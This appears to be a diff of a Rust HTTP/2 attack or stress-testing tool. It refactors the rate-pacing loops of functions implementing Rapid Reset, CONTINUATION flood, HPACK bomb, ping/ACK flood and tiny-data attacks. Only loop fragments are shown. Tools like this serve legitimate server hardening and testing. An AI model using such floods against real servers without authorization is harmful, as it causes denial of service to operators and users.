@@ -258,14 +258,9 @@ async fn rapid_reset<W: AsyncWrite + Unpin>(
     let mut head = Vec::new();
     request_head(&mut head, false, r.opts.tls, &r.opts.host, "/");
     loop {
-        let n = pacer.batch();
-        if !pacer.wait(r, n).await {
+        let Some(n) = pacer.next(r, u64::MAX).await else {
             return false;
-        }
-        let n = r.take(n);
-        if n == 0 {
-            return false;
-        }
+        };
         c.acks(to_ack);
         for _ in 0..n {
             let Some(id) = c.stream() else { return true };
@@ -296,14 +291,9 @@ async fn continuation<W: AsyncWrite + Unpin>(
         k += 1;
     }
     loop {
-        let n = pacer.batch().min(16);
-        if !pacer.wait(r, n).await {
+        let Some(n) = pacer.next(r, 16).await else {
             return false;
-        }
-        let n = r.take(n);
-        if n == 0 {
-            return false;
-        }
+        };
         c.acks(to_ack);
         for _ in 0..n {
             c.out.frame(CONTINUATION, 0, id, &block);
@@ -335,14 +325,9 @@ async fn hpack_bomb<W: AsyncWrite + Unpin>(
         indexed(&mut bomb, 62);
     }
     loop {
-        let n = pacer.batch().min(16);
-        if !pacer.wait(r, n).await {
+        let Some(n) = pacer.next(r, 16).await else {
             return false;
-        }
-        let n = r.take(n);
-        if n == 0 {
-            return false;
-        }
+        };
         c.acks(to_ack);
         for _ in 0..n {
             let Some(id) = c.stream() else { return true };
@@ -357,14 +342,9 @@ async fn hpack_bomb<W: AsyncWrite + Unpin>(
 async fn ack_flood<W: AsyncWrite + Unpin>(r: &Run, c: &mut Conn<'_, W>, pacer: &mut Pacer) -> bool {
     let mut k = 0u64;
     loop {
-        let n = pacer.batch();
-        if !pacer.wait(r, n).await {
+        let Some(n) = pacer.next(r, u64::MAX).await else {
             return false;
-        }
-        let n = r.take(n);
-        if n == 0 {
-            return false;
-        }
+        };
         for _ in 0..n {
             k += 1;
             if r.opts.attack == Attack::PingFlood {
@@ -391,14 +371,9 @@ async fn tiny_data<W: AsyncWrite + Unpin>(
     let mut stream = None;
     let mut sent = 0u64;
     loop {
-        let n = pacer.batch();
-        if !pacer.wait(r, n).await {
+        let Some(n) = pacer.next(r, u64::MAX).await else {
             return false;
-        }
-        let n = r.take(n);
-        if n == 0 {
-            return false;
-        }
+        };
         c.acks(to_ack);
         for _ in 0..n {
             let id = match stream {
